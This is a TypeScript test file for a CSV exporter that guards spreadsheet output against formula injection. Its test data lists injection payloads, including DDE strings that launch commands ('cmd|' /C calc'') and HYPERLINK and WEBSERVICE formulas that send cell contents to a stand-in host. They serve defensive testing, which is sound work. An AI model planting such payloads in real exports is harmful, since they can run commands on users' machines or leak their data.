import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvForMachines, csvForSpreadsheets, sheetLimits, withoutFormula } from '../../src/handover/csv';
import { withShared } from '../support/shared';

/** Texts of which a spreadsheet may make a formula, or which try to get at one past a guard. */
const formulas: readonly string[] = [
  '=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '=1+1\nfoo', "=cmd|' /C calc'!A0\nx", ' =1', '\u00a0=1', '＝1+1', '＋1', '－1', '＠SUM(1)',
  '|calc', '\0=1', '\ufeff=1', "'=1", '=HYPERLINK("http://e/?"&A1,"x")', '=IMPORTXML("http://e/","//a")', '=WEBSERVICE("http://e/")', "-2+3+cmd|'/C calc'!A0",
  ' \u00a0 @A1', '\u3000=1', '\u200b=1', '\v=1', '\f=1', '+cmd|\'/C x\'!A0', '-'.repeat(40),
];
/** Texts that look like trouble and stand in quotes as they are. */
const harmless: readonly string[] = [';=1', ',=1', '"=1"', 'DDE("cmd";"/C calc";"!A0")A0', '', 'a', '1', 'a=1', 'example.com', '"', '""', ',', ';'];

/** What a spreadsheet must not see first in a cell, leading spaces aside. */
const starts = /^[\s\u200b\ufeff]*[=+\-@|\0＝＋－＠]|^[\t\r\n\v\f]/;

const cellsOf = (csv: string): readonly (readonly string[])[] => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: false, newline: '\r\n' }).data.slice(0, -1);
const undone = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);

describe('for spreadsheets', () => {
  test.each(formulas)('%j starts no formula, and can be had back', (text) => {
    const [, [cell = '', other = ''] = []] = cellsOf(csvForSpreadsheets({ columns: ['a', 'b'], rows: [[text, 'next']] }));
    expect(starts.test(cell)).toBe(false);
    expect(cell.startsWith("'")).toBe(true);
    expect(undone(cell)).toBe(text);
    expect(other).toBe('next');
  });

  test.each(harmless)('%j stays as it is', (text) => {
    expect(withoutFormula(text)).toBe(text);
    expect(cellsOf(csvForSpreadsheets({ columns: ['a', 'b'], rows: [[text, 1]] }))[1]).toEqual([text, '1']);
  });

  test('a negative number is guarded like any cell', () => {
    expect(csvForSpreadsheets({ columns: ['points'], rows: [[-5], [5], [null], [true]] })).toBe('\ufeff"points"\r\n"\'-5"\r\n"5"\r\n""\r\n"true"\r\n');
  });

  test('whatever the cells hold, none starts a formula and all can be had back', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...formulas)), { minLength: 2, maxLength: 2 })), (rows) => {
        const read = cellsOf(csvForSpreadsheets({ columns: ['a', 'b'], rows })).slice(1);
        expect(read.flat().some((cell) => starts.test(cell))).toBe(false);
        expect(read.map((row) => row.map(undone))).toEqual(rows);
      }),
    );
  });

  test('a text longer than a cell is cut and says by how much', () => {
    const [, [cell = ''] = []] = cellsOf(csvForSpreadsheets({ columns: ['a'], rows: [['x'.repeat(40_000)]] }));
    expect(cell.length).toBeLessThanOrEqual(sheetLimits.characters);
    const more = Number(/… \((\d+) more characters\)$/.exec(cell)?.[1]);
    expect(more + cell.indexOf('…')).toBe(40_000);
  });

  test('more rows than a sheet holds are refused, and what to do is said', () => {
    const rows = Array.from({ length: sheetLimits.rows }, () => [1]);
    expect(() => csvForSpreadsheets({ columns: ['a'], rows })).toThrow('The table has 1,048,576 rows and a sheet holds 1,048,576. Take the CSV for programs.');
    expect(() => csvForSpreadsheets({ columns: ['a'], rows: rows.slice(1) })).not.toThrow();
  }, 30_000);

  withShared('corpora/csv-injection/csv-payload.txt', 'payloads that others collected', (path) => {
    test('none starts a formula', () => {
      const payloads = readFileSync(join(path), 'utf8').split('\n').filter((line) => line !== '');
      expect(payloads.length).toBeGreaterThan(3);
      const cells = cellsOf(csvForSpreadsheets({ columns: ['a', 'b'], rows: payloads.map((payload) => [payload, '']) })).slice(1);
      expect(cells.map(([cell]) => cell).filter((cell) => starts.test(cell ?? ''))).toEqual([]);
      expect(cells.map(([cell]) => undone(cell ?? ''))).toEqual(payloads);
    });
  });
});

describe('for programs', () => {
  test('quotes only what needs them, and changes nothing', () => {
    expect(csvForMachines({ columns: ['name', 'n'], rows: [['=1', -1], ['a,b', 0.5], ['say "x"', null], ['two\nlines', false]] })).toBe(
      'name,n\n=1,-1\n"a,b",0.5\n"say ""x""",\n"two\nlines",false\n',
    );
  });

  test('whatever the cells hold, they are read back as they were', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.constantFrom(...formulas, ...harmless))), (rows) => {
        const read = Papa.parse<string[]>(csvForMachines({ columns: ['a', 'b'], rows }), { newline: '\n', delimiter: ',' }).data.slice(1, -1);
        expect(read).toEqual(rows);
      }),
    );
  });
});
